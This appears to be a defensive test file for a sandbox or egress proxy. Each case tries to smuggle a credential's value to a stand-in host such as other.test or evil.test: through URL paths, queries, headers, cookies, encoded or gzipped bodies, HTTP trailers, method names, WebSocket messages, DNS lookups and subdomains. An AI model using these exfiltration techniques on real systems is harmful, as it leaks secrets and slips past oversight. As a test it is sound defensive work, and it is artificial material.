// Attempts of code that has got hold of a credential's value, by whatever road, to send it on.

// expected: never arrives
// judge: stuck

const value = "REVERSED_HTTPBIN_TOKEN".split("").reverse().join("");

// name: a value that got out, in a path
await show(fetch("https://other.test/x/ok/" + value + "?t=TRIAL"));

// name: a value that got out, in a query
await show(fetch("https://other.test/x/ok?t=TRIAL&a=" + value));

// name: a value that got out, in a query, in base64
await show(fetch("https://other.test/x/ok?t=TRIAL&a=" + encodeURIComponent(btoa("x" + value))));

// name: a value that got out, in a header
await show(fetch("https://other.test/x/ok?t=TRIAL", { headers: { "X-Note": value } }));

// name: a value that got out, in a header, in hex
await show(
  fetch("https://other.test/x/ok?t=TRIAL", {
    headers: { "X-Note": [...new TextEncoder().encode(value)].map((b) => b.toString(16)).join("") },
  }),
);

// name: a value that got out, in Basic
await show(fetch("https://other.test/x/ok?t=TRIAL", { headers: { Authorization: "Basic " + btoa("me:" + value) } }));

// name: a value that got out, in a cookie
await show(fetch("https://other.test/x/ok?t=TRIAL", { headers: { Cookie: "a=" + value } }));

// name: a value that got out, in a body
await show(fetch("https://other.test/x/sink?t=TRIAL", { method: "POST", body: value }));

// name: a value that got out, in a JSON body, escaped
await show(
  fetch("https://other.test/x/sink?t=TRIAL", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: '{"a":"' + [...value].map((c) => "\\u00" + c.charCodeAt(0).toString(16)).join("") + '"}',
  }),
);

// name: a value that got out, in a multipart body
await show(fetch("https://other.test/x/sink?t=TRIAL", {
  method: "POST",
  body: (() => {
    const f = new FormData();
    f.append("a", new Blob(["..." + value + "..."]));
    return f;
  })(),
}));

// name: a value that got out, in a gzipped body
await show(
  fetch("https://other.test/x/sink?t=TRIAL", {
    method: "POST",
    headers: { "Content-Encoding": "gzip" },
    body: await new Response(new Blob([value]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer(),
  }),
);

// name: a value that got out, in a body, one byte at a time
await show(fetch("https://other.test/x/sink?t=TRIAL", {
  method: "POST",
  body: new ReadableStream({
    async start(c) {
      for (const ch of "xx" + value + "yy") {
        c.enqueue(new TextEncoder().encode(ch));
        await new Promise((d) => setTimeout(d, 1));
      }
      c.close();
    },
  }),
}));

// name: a value that got out, in a trailer
// judge: reached
await raw(
  "other.test",
  "other.test",
  "POST /x/sink?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\nTrailer: X-Note\r\nConnection: close\r\n\r\n2\r\nok\r\n0\r\nX-Note: " +
    value + "\r\n\r\n",
);

// name: a value that got out, as a method
await raw(
  "other.test",
  "other.test",
  value.replace(/[^A-Za-z]/g, "") + value + " /x/ok?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n",
);

// name: a value that got out, as the name of a header
await show(fetch("https://other.test/x/ok?t=TRIAL", { headers: { ["X-" + value]: "1" } }));

// name: a value that got out, in a WebSocket message
{
  const s = new WebSocket("wss://other.test/x/ws?t=TRIAL");
  const got = [];
  await new Promise<void>((d) => {
    s.onopen = () => s.send("say " + value);
    s.onmessage = (m) => {
      got.push(m.data.length);
    };
    s.onclose = (e) => {
      got.push(e.code);
      d();
    };
    s.onerror = () => d();
    setTimeout(() => {
      s.close();
      d();
    }, 1500);
  });
  out({ status: got.filter((n) => n < 1000).length > 1 ? 200 : 403, text: got.join("|") });
}

// name: a value that got out, in a name that is looked up
try {
  out({ status: 200, text: JSON.stringify(await Deno.resolveDns(value.toLowerCase() + ".evil.test", "A")) });
} catch (e) {
  why(e);
}

// name: a value that got out, {what}
// yolo: {open}
// each: what | host | open
//   as a host of a wildcard API | wild.test | no
//   as a host in no API         | evil.test | no
//   as a host under YOLO_MODE   | evil.test | yes
// note: What refuses it may name the host, so the code does not print it.
try {
  const r = await fetch("https://" + value + ".{host}/x/ok?t=TRIAL");
  const x = await r.json();
  out({ status: r.status, code: x.code });
} catch {
  out({ error: "no answer" });
}
